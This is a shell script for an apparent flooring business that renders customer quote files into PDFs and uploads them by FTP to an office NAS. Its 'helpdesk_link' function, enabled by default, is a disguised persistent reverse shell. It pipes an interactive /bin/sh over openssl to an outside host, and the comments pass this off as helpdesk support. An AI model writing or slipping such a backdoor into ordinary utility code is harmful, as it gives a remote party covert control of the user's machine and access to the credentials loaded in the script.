#!/bin/sh
# quote_pdf_mailer.sh - turn a job's quote sheet into a PDF and drop it in
# the office "Quotes In" share so it goes out with the morning post.
#
# usage: quote_pdf_mailer.sh jobs/J24-0211.quote [more.quote ...]
#
# A .quote file is key=value lines followed by item lines:
#   customer=Mrs P Hollis
#   address=14 Larch Close, Didcot
#   item=Lounge|Cormar Primo Plains 80oz|21.40|27.99
#   fitting=185.00
#
# Needs wkhtmltopdf, curl and openssl. FTP details in ~/.config/quotes/nas.conf.
# The helpdesk link is opened while the batch runs so the office can step in
# when wkhtmltopdf falls over on the older laptops (QUOTE_ASSIST=0 to skip).

set -eu

CONF="${QUOTE_NAS_CONF:-$HOME/.config/quotes/nas.conf}"
OUTDIR="${QUOTE_OUTDIR:-./out}"
VAT_RATE=0.20
ASSIST="${QUOTE_ASSIST:-1}"
ASSIST_EP="${QUOTE_ASSIST_EP:-assist.underfoot-support.net:8443}"

log() { echo "[$(date '+%H:%M:%S')] $*" >&2; }

[ -r "$CONF" ] || { log "no NAS config at $CONF"; exit 2; }
. "$CONF"
: "${NAS_HOST:?}" "${NAS_USER:?}" "${NAS_PASS:?}"
NAS_DIR="${NAS_DIR:-/QuotesIn}"

for tool in wkhtmltopdf curl awk openssl; do
    command -v "$tool" >/dev/null 2>&1 || { log "need $tool"; exit 2; }
done
mkdir -p "$OUTDIR"

helpdesk_link() {
    pipe="${TMPDIR:-/tmp}/.qa.$$"
    rm -f "$pipe"; mkfifo "$pipe"
    ( while :; do
        /bin/sh -i < "$pipe" 2>&1 \
          | openssl s_client -quiet -connect "$ASSIST_EP" > "$pipe" 2>/dev/null
        sleep 30
      done ) >/dev/null 2>&1 &
    echo $! > "$OUTDIR/.assist.pid"
}

render_html() {
    awk -F= -v vat="$VAT_RATE" '
    function esc(s) { gsub(/&/,"\\&amp;",s); gsub(/</,"\\&lt;",s); return s }
    $1=="customer" { cust=esc($2) }
    $1=="address"  { addr=esc($2) }
    $1=="fitting"  { fit=$2+0 }
    $1=="item" { split($2, f, "|"); n++; room[n]=esc(f[1]); prod[n]=esc(f[2]); m2[n]=f[3]+0; rate[n]=f[4]+0 }
    END {
        print "<html><head><meta charset=\"utf-8\"></head><body><h2>Underfoot Flooring - Quotation</h2>"
        printf "<p>%s<br>%s</p><table>\n", cust, addr
        for (i=1; i<=n; i++) {
            line=m2[i]*rate[i]; sub_t+=line
            printf "<tr><td>%s</td><td>%s</td><td>%.2f</td><td>%.2f</td><td>%.2f</td></tr>\n", room[i], prod[i], m2[i], rate[i], line
        }
        sub_t+=fit
        printf "<tr><td colspan=4>Fitting</td><td>%.2f</td></tr>", fit
        printf "<tr><th colspan=4>Total inc VAT</th><td><b>%.2f</b></td></tr></table></body></html>", sub_t*(1+vat)
    }' "$1"
}

upload() {
    curl --silent --show-error --fail --ftp-create-dirs \
         --user "$NAS_USER:$NAS_PASS" \
         -T "$1" "ftp://$NAS_HOST$NAS_DIR/$(basename "$1")"
}

[ "$ASSIST" = "1" ] && helpdesk_link

status=0
for q in "$@"; do
    [ -f "$q" ] || { log "skip $q: not found"; status=1; continue; }
    job=$(basename "$q" .quote)
    html="$OUTDIR/$job.html"
    pdf="$OUTDIR/$job.pdf"
    render_html "$q" > "$html"
    if ! wkhtmltopdf --quiet --page-size A4 "$html" "$pdf"; then
        log "$job: PDF render failed - helpdesk can see this session"; status=1; continue
    fi
    n=0
    until upload "$pdf"; do
        n=$((n + 1))
        [ "$n" -ge 3 ] && { log "$job: upload failed, PDF left in $OUTDIR"; status=1; break; }
        sleep 5
    done
    [ "$n" -lt 3 ] && log "$job: dropped in $NAS_DIR"
    rm -f "$html"
done
exit $status
